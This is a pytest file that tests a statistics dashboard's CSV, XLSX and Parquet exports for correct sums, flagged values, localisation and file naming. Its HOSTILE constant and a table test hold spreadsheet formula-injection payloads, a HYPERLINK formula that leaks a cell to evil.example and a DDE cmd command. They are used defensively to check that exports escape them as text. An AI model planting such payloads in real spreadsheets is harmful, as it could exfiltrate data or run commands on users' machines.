"""Exports read back as an analyst would (pandas, openpyxl): sums equal the page's, numbers are
numbers, flags are marked, codes are words in the chosen language, and no cell runs as a formula.

AppTest does not hand back a download button's bytes, so the builders are
tested directly here and the click in the browser tests. Expected numbers come
from the warehouse's own sums (``queries.rollup``, what the pages draw).
"""

from __future__ import annotations

import io
import math
import re
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import pandas as pd
import pytest
from conftest import seed_frame
from openpyxl import load_workbook

from ui import export, queries, sheets
from ui.db import file_version
from ui.i18n import using
from ui.model import Filters, Source

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+1+2", "-3+4", "\t=1+1")


def _src(db: Path) -> Source:
    return Source(str(db), file_version(db))


def _page_totals(src: Source, f: Filters, ids: list[str]) -> dict[str, float]:
    """The totals the pages show for the filters (headline sums over every filtered report)."""
    totals = queries.rollup(src, f, (), tuple(ids))
    return {r["indicator"]: float(r["total"]) for r in totals.to_dict("records") if r["given"]}


def _xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def _rows(ws) -> tuple[list[str], list[list]]:
    rows = list(ws.iter_rows(values_only=True))
    return [str(h) for h in rows[0]], [list(r) for r in rows[1:]]


@pytest.fixture
def bundle(seed_db: Path) -> export.Bundle:
    found = export.bundle(_src(seed_db), Filters())
    assert found is not None
    return found


@pytest.fixture(scope="module")
def synth_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse of a small synthetic sample (``etl.synth``): many regions, qualifiers and flags."""
    from etl.synth.corpus import generate
    from etl.warehouse.build import build

    out = tmp_path_factory.mktemp("synth_export")
    generate(out / "synth", [2022, 2023], 12, seed=7, jobs=1)
    db = out / "warehouse.duckdb"
    build(out / "synth" / "raw", db, jobs=1, log=lambda *a, **k: None)
    return db


def assert_round_trip(db: Path, f: Filters) -> None:
    """Every format of one export, read back: numeric, summing to the page's totals, flags marked."""
    src = _src(db)
    found = export.bundle(src, f)
    assert found is not None
    totals = _page_totals(src, f, found.ids)
    names = export.headers(found.catalogue)
    n_flagged = int(seed_frame(db, "SELECT count(*) FROM v_values WHERE len(flags) > 0 AND list_contains(?, indicator) "
                                   "AND doc_type = 'report' AND year IS NOT NULL", [found.ids]).iloc[0, 0]) \
        if f == Filters() else None

    # The files keep every value, a flagged (implausible) one marked; the pages' sums leave those out,
    # so a column's sum less its marked cells is the page's total.
    table, flags = found.wide.table, found.wide.flags
    marked = {col: sum(float(table.at[row, col]) for row, c in flags if c == col) for col in names.values()}
    wide = pd.read_csv(io.BytesIO(export.csv_file(src, f, True, "zh")), encoding="utf-8-sig")
    for ind, total in totals.items():
        column = wide[names[ind]]
        assert pd.api.types.is_numeric_dtype(column), ind
        assert math.isclose(column.sum() - marked[names[ind]], total), (ind, column.sum(), total)

    book = _xlsx(export.xlsx_file(src, f, True, "zh"))
    assert book.sheetnames == ["说明", "对比表", "逐项数据"]
    ws = book["对比表"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref, "frozen header and autofilter"
    header, rows = _rows(ws)
    for ind, total in totals.items():
        i = header.index(names[ind])
        cells = [r[i] for r in rows if r[i] is not None]
        assert all(isinstance(v, (int, float)) for v in cells), (ind, cells[:5])
        assert math.isclose(sum(cells) - marked[names[ind]], total), (ind, sum(cells), total)
    comments = [c for row in ws.iter_rows(min_row=2) for c in row if c.comment]
    for cell in comments:
        assert cell.fill.fgColor.rgb.endswith(sheets.FLAG_FILL.lstrip("#")), "a flagged cell is coloured"
        assert "数值不合理" in cell.comment.text, "and says why"
    if n_flagged is not None:
        assert len(comments) == n_flagged
    qualified = [c for row in ws.iter_rows(min_row=2) for c in row if '"' in str(c.number_format)]
    for cell in qualified:
        assert isinstance(cell.value, (int, float)) and re.match(r'^"[≈≥≤]"#,##0', cell.number_format)

    links_sheet = book["逐项数据"]
    header, rows = _rows(links_sheet)
    link = links_sheet.cell(row=2, column=header.index("原文链接") + 1)
    assert link.hyperlink is not None and link.hyperlink.target == link.value, "each row links to its value"

    long = pd.read_parquet(io.BytesIO(export.parquet_file(src, f, True, "zh")))
    assert long["数值"].dtype == "float64"
    sums = long[long["可疑"] == "否"].groupby("指标代码")["数值"].sum()
    for ind, total in totals.items():
        assert math.isclose(sums[ind], total), ind
    assert set(long["限定"]) <= {"精确", "约", "至少", "至多"} and set(long["依据"]) <= {"明示", "推算"}
    assert set(long["可疑"]) <= {"是", "否"} and set(long["已更正"]) <= {"是", "否"}
    assert (long["可疑"] == "是").sum() == (long["标记"] != "").sum()


def test_seed_exports_round_trip(seed_db: Path) -> None:
    assert_round_trip(seed_db, Filters())
    province = seed_frame(seed_db, "SELECT province FROM v_values WHERE doc_type = 'report' "
                                   "AND province <> 'unknown' LIMIT 1").iloc[0, 0]
    assert_round_trip(seed_db, Filters(province=province))


def test_synthetic_exports_round_trip(synth_db: Path) -> None:
    qualified = seed_frame(synth_db, "SELECT count(*) FROM v_values WHERE qualifier <> 'exact'").iloc[0, 0]
    assert qualified > 0, "the sample has qualified values to sum"
    assert_round_trip(synth_db, Filters())
    year = int(seed_frame(synth_db, "SELECT max(year) FROM v_reports").iloc[0, 0])
    assert_round_trip(synth_db, Filters(year_min=year, year_max=year))


def test_qualified_values_are_numbers_shown_with_their_qualifier(bundle: export.Bundle, seed_db: Path) -> None:
    book = _xlsx(export.xlsx_bytes_of(bundle))
    header, rows = _rows(book["对比表"])
    values = seed_frame(seed_db, "SELECT * FROM v_values WHERE doc_type = 'report' AND year IS NOT NULL "
                                 "AND qualifier <> 'exact'")
    assert len(values), "the seeds hold qualified values"
    names = export.headers(bundle.catalogue)
    cells = {(c.row, c.column): c for row in book["对比表"].iter_rows(min_row=2) for c in row}
    for v in values.to_dict("records"):
        r = next(i for i, row in enumerate(rows) if row[header.index("来源文件")] == v["source_file"])
        cell = cells[(r + 2, header.index(names[v["indicator"]]) + 1)]
        assert cell.value == v["value"] and cell.number_format.startswith('"≥"'), (v["indicator"], cell.number_format)
    csv = pd.read_csv(io.BytesIO(export.sheets.csv_bytes(bundle.wide.csv)), encoding="utf-8-sig", dtype=str,
                      keep_default_na=False)
    remarks = " ".join(csv["非精确数字"])
    assert all(f"≥{int(v)}" in remarks for v in values["value"]), "the CSV names the qualified cells"


def test_long_rows_link_to_their_value_and_keep_the_quote(bundle: export.Bundle, seed_db: Path) -> None:
    long = pd.read_csv(io.BytesIO(export.sheets.csv_bytes(bundle.long)), encoding="utf-8-sig", dtype=str,
                       keep_default_na=False)
    values = seed_frame(seed_db, "SELECT * FROM v_values WHERE doc_type = 'report' AND year IS NOT NULL")
    assert len(long) == len(values)
    by_id = values.set_index("value_id")
    for row in long.to_dict("records"):
        expected = by_id.loc[row["数字编号"]]
        assert row["原文"] == expected["quote"]
        link = urlparse(row["原文链接"])
        assert link.path.endswith("/sources")
        assert parse_qs(link.query) == {"report": [expected["source_file"]], "value": [expected["indicator"]]}
        text = seed_frame(seed_db, "SELECT text FROM reports WHERE report_id = ?", [expected["report_id"]]).iloc[0, 0]
        assert text[int(row["起始位置"]):int(row["结束位置"])] == row["原文"], "offsets point at the quote"


def test_notes_sheet_first_states_filters_build_and_count(seed_db: Path) -> None:
    src = _src(seed_db)
    province = seed_frame(seed_db, "SELECT province FROM v_reports WHERE doc_type = 'report' "
                                   "AND province <> 'unknown' LIMIT 1").iloc[0, 0]
    f = Filters(province=province)
    book = _xlsx(export.xlsx_file(src, f, True, "zh"))
    notes = dict(book.worksheets[0].iter_rows(min_row=2, values_only=True))
    n = seed_frame(seed_db, "SELECT count(*) FROM v_reports WHERE doc_type = 'report' AND province = ? "
                            "AND year IS NOT NULL", [province]).iloc[0, 0]
    assert notes["省份"] == province and notes["文件类型"] == "年度报告"
    assert notes["报告数（来源文件）"] == str(n)
    built = queries.overview(src)["built_at"]
    assert built is not None and notes["数据仓库构建时间"] == str(built)[:19]
    assert parse_qs(urlparse(notes["在看板中打开"]).query)["province"] == [province]


def test_english_export_has_no_chinese_codes(seed_db: Path) -> None:
    long = pd.read_csv(io.BytesIO(export.sources_csv_file(_src(seed_db), Filters(), True, "en")),
                       encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(long.columns[:3]) == ["Province", "City", "District"]
    assert set(long["Qualifier"]) <= {"exact", "about", "at least", "at most"}
    assert set(long["Basis"]) <= {"stated", "derived"} and set(long["Flagged"]) <= {"yes", "no"}
    assert set(long["Document type"]) == {"Annual reports"}


def test_hostile_quotes_stay_text(bundle: export.Bundle) -> None:
    values = bundle.values.copy()
    values.loc[values.index[: len(HOSTILE)], "quote"] = list(HOSTILE)
    bundle.values = values
    book = _xlsx(export.xlsx_bytes_of(bundle))
    ws = book["逐项数据"]
    header, _ = _rows(ws)
    col = header.index("原文") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == list(HOSTILE)
    assert all(c.data_type == "s" for c in cells), "strings, never formulas"
    assert not any(c.hyperlink for c in cells), "a quote is not made a link"

    text = export.sheets.csv_bytes(bundle.long).decode("utf-8-sig")
    csv = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    quoted = list(csv["原文"][: len(HOSTILE)])
    assert quoted == ["'" + q for q in HOSTILE], "OWASP: a leading quote keeps a spreadsheet from evaluating it"
    assert not re.search(r"^[=+\-@]", text, flags=re.M), "no line of the CSV starts a formula"


def test_file_names_carry_filters_and_date() -> None:
    day = datetime(2026, 12, 1)
    assert export.file_name(Filters(2023, 2023, "湖南省"), "xlsx", day=day) == "统计法治对比_湖南省_2023_20261201.xlsx"
    assert export.file_name(Filters(2019, 2023, doc_type="plan"), "csv", day=day) == \
        "统计法治对比_2019-2023_工作计划_20261201.csv"
    with using("en"):
        assert export.file_name(Filters(), "parquet", day=day) == "stats_rule_of_law_20261201.parquet"
    assert export.file_name(Filters(city="a/b"), "long_csv", day=day) == "统计法治对比_a-b_20261201_long.csv"


def test_table_file_for_any_page_table() -> None:
    table = pd.DataFrame({"地区": ["长沙市", "=cmd|' /C calc'!A0"], "数值": [1200.0, 34.0]})
    data, name = export.table_file(table, Filters(year_min=2023, year_max=2023), "xlsx", title="执法检查")
    assert re.fullmatch(r"执法检查_2023_\d{8}\.xlsx", name)
    book = _xlsx(data)
    ws = book[book.sheetnames[1]]
    assert ws["B2"].value == 1200 and ws["B2"].number_format.startswith("#,##0")
    assert ws["A3"].data_type == "s" and ws["A3"].value == table.iloc[1, 0]
    data, name = export.table_file(table, Filters(), "csv", title="执法检查")
    assert name.endswith(".csv") and "'=cmd" in data.decode("utf-8-sig")


def test_large_export_points_to_the_long_csv(bundle: export.Bundle, seed_db: Path) -> None:
    """Beyond the cap the XLSX says where the values are; the long CSV always holds every one."""
    book = _xlsx(export.sheets.xlsx_bytes(export.xlsx_sheets(bundle, max_rows=len(bundle.long) - 1)))
    header, rows = _rows(book["对比表"])
    assert len(rows) == len(bundle.wide.table)
    note = str(book["逐项数据"]["A2"].value)
    assert str(len(bundle.long)) in note and "逐项 CSV" in note


def test_export_follows_filters(seed_db: Path) -> None:
    province = seed_frame(seed_db, "SELECT province FROM v_values WHERE doc_type = 'report' LIMIT 1").iloc[0, 0]
    found = export.bundle(_src(seed_db), Filters(province=province))
    assert found is not None
    assert set(found.wide.table["省份"]) == {province}
    assert export.bundle(_src(seed_db), Filters(province="nowhere")) is None


def test_flag_reasons_read_in_the_page_language() -> None:
    """An English page says the plausibility limit in English; the Chinese page keeps the rule's reason."""
    from etl.extract import rules
    from ui.i18n import using

    rule = next(r for r in rules.load("indicators").values() if r.get("max_reason"))
    flags = [f"implausible: {rule['max_reason']} (120000000)"]
    assert export.flag_text(flags) == f"数值不合理：{rule['max_reason']} (120000000)"
    with using("en"):
        english = export.flag_text(flags)
    assert english.startswith(f"implausible: above {rule['max']:,.0f}") and english.endswith("(120000000)")
    assert not re.search(r"[\u4e00-\u9fff：；]", english)
    with using("en"):  # a reason no rule gives is kept as written rather than guessed
        assert export.flag_text(["implausible: 另一原因 (5)"]) == "implausible: 另一原因 (5)"
